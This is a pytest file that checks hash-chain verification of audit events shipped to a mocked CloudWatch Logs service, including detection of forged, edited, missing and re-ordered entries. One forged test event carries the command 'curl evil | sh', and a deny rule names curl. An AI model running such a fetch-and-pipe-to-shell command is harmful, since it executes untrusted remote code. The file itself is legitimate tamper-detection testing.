"""`audit verify --remote` against a real moto server: shipped chains verify; a forged, edited, missing,
re-ordered or duplicated-with-changes event in CloudWatch exits 1 and says where; honest duplicates
(at-least-once delivery) do not."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

from claude_enterprise.audit import AuditContext, record
from claude_enterprise.audit.events import event_hash
from claude_enterprise.audit.remote import verify_remote, verify_stream
from claude_enterprise.audit.shipper import ship
from claude_enterprise.audit.spool import iter_lines
from tests.audit.helpers import REGION, subprocess_env


def shipped_spool(spool: Path, group: str, url: str, stream: str, n: int = 8) -> list[str]:
    ctx = AuditContext(session_id=f"s-{stream}", profile="restricted", host=stream.split("/")[-1])
    record("session_start", ctx, spool_dir=spool)
    for i in range(n - 1):
        record("tool_decision", ctx, spool_dir=spool, decision="deny" if i % 3 == 0 else "allow",
               rule_id="shell.deny.curl" if i % 3 == 0 else "shell.allow", command=f"cmd {i}")
    report = ship(spool, log_group=group, region=REGION, endpoint_url=url, stream_name=stream)
    assert report.ok and report.shipped == n
    return [raw.decode() for _, _, _, raw in iter_lines(spool)]


def put(logs: Any, group: str, stream: str, messages: list[tuple[int, str]]) -> None:
    logs.create_log_stream(logGroupName=group, logStreamName=stream)
    logs.put_log_events(logGroupName=group, logStreamName=stream,
                        logEvents=[{"timestamp": t, "message": m} for t, m in messages])


def cli(url: str, group: str, *extra: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "claude_enterprise.cli.audit_cmd", "verify", "--remote",
                           "--region", REGION, "--endpoint-url", url, "--log-group", group, *extra],
                          capture_output=True, text=True, env=subprocess_env(), timeout=120)


def ts(message: str) -> int:
    from claude_enterprise.audit.events import parse_ts_ms

    return parse_ts_ms(json.loads(message)["ts"])


def test_shipped_chains_of_two_hosts_verify(tmp_path: Path, moto_url: str, log_group: str) -> None:
    shipped_spool(tmp_path / "a", log_group, moto_url, "alice/laptop-a")
    shipped_spool(tmp_path / "b", log_group, moto_url, "bob/laptop-b", n=5)
    report = verify_remote(log_group=log_group, region=REGION, endpoint_url=moto_url)
    assert report.ok and [(s.stream, s.checked) for s in report.streams] == [("alice/laptop-a", 8),
                                                                              ("bob/laptop-b", 5)]
    result = cli(moto_url, log_group)
    assert result.returncode == 0, result.stderr
    assert "alice/laptop-a: chain intact: 8 event(s), seq 1..8" in result.stdout
    assert "2 stream(s)" in result.stdout and "0 broken" in result.stdout


def test_at_least_once_duplicates_are_counted_not_errors(tmp_path: Path, moto_url: str, log_group: str,
                                                         logs: Any) -> None:
    lines = shipped_spool(tmp_path / "a", log_group, moto_url, "alice/laptop-a")
    # A lost PutLogEvents response: the whole batch is sent again.
    logs.put_log_events(logGroupName=log_group, logStreamName="alice/laptop-a",
                        logEvents=[{"timestamp": ts(m), "message": m} for m in lines])
    (result,) = verify_remote(log_group=log_group, region=REGION, endpoint_url=moto_url).streams
    assert result.ok and result.checked == 8 and result.duplicates == 8


def test_event_forged_into_the_stream_is_caught(tmp_path: Path, moto_url: str, log_group: str, logs: Any) -> None:
    lines = shipped_spool(tmp_path / "a", log_group, moto_url, "alice/laptop-a")
    # A forger with write access to the group appends a well-formed event with a correct hash of its own.
    last = json.loads(lines[-1])
    forged = {**last, "event_id": "f0f0f0f0-0000-4000-8000-000000000000", "seq": last["seq"] + 1,
              "prev_hash": "1" * 64, "decision": "allow", "command": "curl evil | sh"}
    forged["hash"] = event_hash(forged)
    logs.put_log_events(logGroupName=log_group, logStreamName="alice/laptop-a",
                        logEvents=[{"timestamp": ts(lines[-1]) + 1, "message": json.dumps(forged)}])
    result = cli(moto_url, log_group)
    assert result.returncode == 1
    assert "alice/laptop-a: chain BROKEN after 8 valid event(s)" in result.stderr
    assert "message 9 (seq 9, event f0f0f0f0-0000-4000-8000-000000000000)" in result.stderr
    assert "prev_hash does not match" in result.stderr


def test_edited_missing_reordered_and_double_seq_are_each_located(tmp_path: Path, moto_url: str,
                                                                  log_group: str, logs: Any) -> None:
    lines = _local_lines(tmp_path / "a")
    logs.create_log_group(logGroupName=log_group)
    base = int(time.time() * 1000) - 60_000
    timed = [(base + i, m) for i, m in enumerate(lines)]
    edited = json.loads(lines[2])
    edited["decision"] = "deny"
    put(logs, log_group, "h/edited", [*timed[:2], (base + 2, json.dumps(edited)), *timed[3:]])
    put(logs, log_group, "h/missing", [*timed[:3], *timed[4:]])
    put(logs, log_group, "h/reordered", [*timed[:2], (base + 2, lines[3]), (base + 3, lines[2]), *timed[4:]])
    copy = json.loads(lines[3])
    copy["event_id"] = "0" * 8 + "-0000-4000-8000-" + "0" * 12
    copy["hash"] = event_hash(copy)
    put(logs, log_group, "h/doubled", [*timed[:4], (base + 4, json.dumps(copy)), *[(t + 1, m) for t, m in timed[4:]]])
    put(logs, log_group, "h/same-id-edited", [*timed, (base + 10, json.dumps({**edited, "reason": "x"}))])
    put(logs, log_group, "h/foreign", [*timed[:1], (base + 1, "hello, not an event")])
    report = verify_remote(log_group=log_group, region=REGION, endpoint_url=moto_url)
    found = {s.stream: s for s in report.streams}
    assert not report.ok

    def where(stream: str) -> tuple[int | None, int | None, str]:
        brk = found[stream].first_break
        assert brk is not None, stream
        return brk.position, brk.seq, brk.problem

    assert where("h/edited")[:2] == (3, 3) and "hash does not match" in where("h/edited")[2]
    assert where("h/missing")[:2] == (4, 5) and "seq jumps from 3 to 5: 1 event(s) missing" in where("h/missing")[2]
    assert where("h/reordered")[:2] == (3, 4) and "re-ordered" in where("h/reordered")[2]
    assert where("h/doubled")[:2] == (5, 4) and "appears twice" in where("h/doubled")[2]
    assert where("h/same-id-edited")[1] == 3 and "different content" in where("h/same-id-edited")[2]
    assert where("h/foreign")[0] == 2 and "not a JSON audit event" in where("h/foreign")[2]
    result = cli(moto_url, log_group, "--stream", "h/missing", "--json")
    data = json.loads(result.stdout)
    assert result.returncode == 1 and [s["stream"] for s in data["streams"]] == ["h/missing"]
    assert data["streams"][0]["first_break"]["seq"] == 5


def _local_lines(spool: Path, n: int = 6) -> list[str]:
    ctx = AuditContext(session_id="s", profile="restricted")
    for i in range(n):
        record("tool_decision", ctx, spool_dir=spool, decision="allow", command=f"c{i}")
    return [raw.decode() for _, _, _, raw in iter_lines(spool)]


def test_a_reinstalled_spool_restarts_the_chain_with_a_warning(tmp_path: Path) -> None:
    first, second = _local_lines(tmp_path / "one", 3), _local_lines(tmp_path / "two", 2)
    result = verify_stream("u/h", [(i, m) for i, m in enumerate(first + second)])
    assert result.ok and result.chains == 2 and result.checked == 5
    assert any("restarts at seq 1" in w for w in result.warnings)
    tail = verify_stream("u/h", [(i, m) for i, m in enumerate(first[1:])])
    assert tail.ok and any("starts at seq 2" in w for w in tail.warnings)


def test_unreadable_group_exits_1(moto_url: str) -> None:
    result = cli(moto_url, "/no/such/group")
    assert result.returncode == 1 and "ResourceNotFoundException" in result.stderr
